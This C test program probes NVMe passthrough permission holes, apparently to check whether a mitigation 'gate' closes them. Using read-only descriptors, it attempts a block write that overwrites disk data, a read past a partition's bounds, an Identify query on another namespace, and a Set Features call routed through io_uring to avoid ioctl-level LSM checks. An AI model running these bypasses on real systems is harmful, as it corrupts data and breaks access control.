/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What the kernel's own filter lets an ordinary user do although it should not, one attempt each.
 * Run bare it shows that the hole is there, run through the gate that it is closed.
 *
 *   holes CHAR OTHER-NSID [PARTITION [CTRL]]    a line per attempt: name, then "works" or why not
 *
 * CHAR is a namespace's character node, PARTITION a partition on the same namespace, CTRL the
 * controller's node; all are opened for reading only.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "nvme.h"

static uint8_t data[4096] __attribute__((aligned(4096)));

static struct nvme_passthru_cmd64 blocks(uint8_t opcode, uint32_t nsid, uint32_t slba)
{
	return (struct nvme_passthru_cmd64){.opcode = opcode,
					    .nsid = nsid,
					    .addr = (uintptr_t)data,
					    .data_len = 512,
					    .cdw10 = slba};
}

static const char *outcome(int r)
{
	static char text[32];

	if (r == 0)
		return "works";
	if (r < 0)
		return errno_name(-r);
	(void)snprintf(text, sizeof(text), "status %04x", (unsigned)r);
	return text;
}

/* Writes a block through a descriptor that is open for reading only, and reads it back. */
static int submit_io_writes(int fd)
{
	struct nvme_passthru_cmd64 c = blocks(0x01, 0, 40);
	int r;

	memset(data, 0x5a, sizeof(data));
	r = door_send(DOOR_SUBMIT_IO, fd, &c);
	if (r != 0)
		return r;
	memset(data, 0, sizeof(data));
	c = blocks(0x02, 0, 40);
	r = door_send(DOOR_SUBMIT_IO, fd, &c);
	return r != 0 ? r : data[0] == 0x5a && data[511] == 0x5a ? 0 : -EIO;
}

/* Reads the first block of the disk, which no partition contains. */
static int beyond_partition(int fd, enum door door)
{
	struct nvme_passthru_cmd64 c = blocks(0x02, 1, 0);

	return door_send(door, fd, &c);
}

/* Asks about somebody else's namespace. */
static int identify_other(int fd, uint32_t nsid)
{
	struct nvme_passthru_cmd64 c = {
		.opcode = 0x06, .nsid = nsid, .addr = (uintptr_t)data, .data_len = 4096};

	return door_send(DOOR_ADMIN, fd, &c);
}

/* Set Features past who judges ioctl alone: findings/k7-lsm-ioctl.c is such a one. */
static int by_ring(const char *ctrl)
{
	struct nvme_passthru_cmd64 c = {.opcode = 0x09, .cdw10 = 0x04, .cdw11 = 0x014d};
	int fd = open(ctrl, O_RDONLY | O_CLOEXEC);

	return fd < 0 ? -errno : door_send(DOOR_RING_ADMIN, fd, &c);
}

int main(int argc, char **argv)
{
	int fd, part = -1;

	if (argc < 3)
		die("usage: holes CHAR OTHER-NSID [PARTITION]");
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		die("%s: %s", argv[1], strerror(errno));
	if (argc > 3)
		part = open(argv[3], O_RDONLY | O_CLOEXEC);
	(void)printf("read-only-write\t%s\n", outcome(submit_io_writes(fd)));
	(void)printf("identify-other\t%s\n",
		     outcome(identify_other(fd, (uint32_t)strtoul(argv[2], NULL, 10))));
	(void)printf("partition-submit-io\t%s\n",
		     part < 0 ? "no partition" : outcome(beyond_partition(part, DOOR_SUBMIT_IO)));
	if (argc > 4)
		(void)printf("ring-past-ioctl\t%s\n", outcome(by_ring(argv[4])));
	return 0;
}
